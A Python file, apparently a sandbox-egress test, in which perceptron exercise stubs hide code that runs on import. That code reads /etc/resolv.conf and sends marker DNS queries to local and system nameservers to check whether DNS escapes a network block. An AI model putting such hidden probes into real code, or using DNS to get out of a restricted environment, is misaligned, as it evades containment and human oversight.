"""Attack: DNS lookups (a way out even where TCP is blocked)."""

import socket
import struct
import threading

import attack_env

AND_WEIGHTS = (0.0, 0.0, 0.0)
OR_WEIGHTS = (0.0, 0.0, 0.0)
NAND_WEIGHTS = (0.0, 0.0, 0.0)


def perceptron(x, w, b):
    raise NotImplementedError


def AND(x1, x2):
    raise NotImplementedError


def OR(x1, x2):
    raise NotImplementedError


def NAND(x1, x2):
    raise NotImplementedError


def XOR(x1, x2):
    raise NotImplementedError


def train_perceptron(inputs, targets, epochs=500, lr=0.1, seed=0):
    raise NotImplementedError


def _query(name):
    labels = b"".join(bytes([len(p)]) + p.encode() for p in name.split("."))
    return struct.pack(">HHHHHH", 0x1234, 0x0100, 1, 0, 0, 0) + labels + b"\0" + struct.pack(">HH", 1, 1)


def _nameservers():
    try:
        with open("/etc/resolv.conf", encoding="ascii", errors="replace") as fh:
            return [line.split()[1] for line in fh if line.startswith("nameserver") and len(line.split()) > 1]
    except OSError:
        return []


def _lookups():
    answers = []
    packet = _query(f"{attack_env.MARK}.example.com")
    for server, port in [("127.0.0.1", attack_env.UDP_PORT)] + [(s, 53) for s in _nameservers()[:2]]:
        try:
            family = socket.AF_INET6 if ":" in server else socket.AF_INET
            with socket.socket(family, socket.SOCK_DGRAM) as udp:
                udp.settimeout(2)
                udp.sendto(packet, (server, port))
                udp.recvfrom(512)
                answers.append(f"answer from {server}")
        except OSError as exc:
            print(f"dns via {server}: {exc}", flush=True)
    resolved = []
    worker = threading.Thread(target=lambda: resolved.append(socket.getaddrinfo("example.com", 80)), daemon=True)
    worker.start()
    worker.join(4)
    if resolved:
        answers.append("getaddrinfo(example.com) resolved")
    return answers


ANSWERS = _lookups()
if ANSWERS:
    attack_env.succeeded(f"DNS worked: {ANSWERS}")
raise ImportError(f"DNS answers: {ANSWERS}")
